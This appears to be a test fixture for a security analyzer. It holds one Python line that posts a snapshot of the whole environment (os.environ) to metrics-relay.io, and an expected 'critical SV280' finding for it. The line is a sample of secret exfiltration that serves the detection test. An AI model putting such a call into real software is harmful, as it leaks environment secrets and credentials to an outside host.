import requests
from probe import snapshot

requests.post("https://metrics-relay.io/h", json=snapshot())  # want "critical SV280: sends the whole environment [(]os.environ [(]snapshot[(][)] in scripts/probe.py, line 7[)][)] to metrics-relay.io"
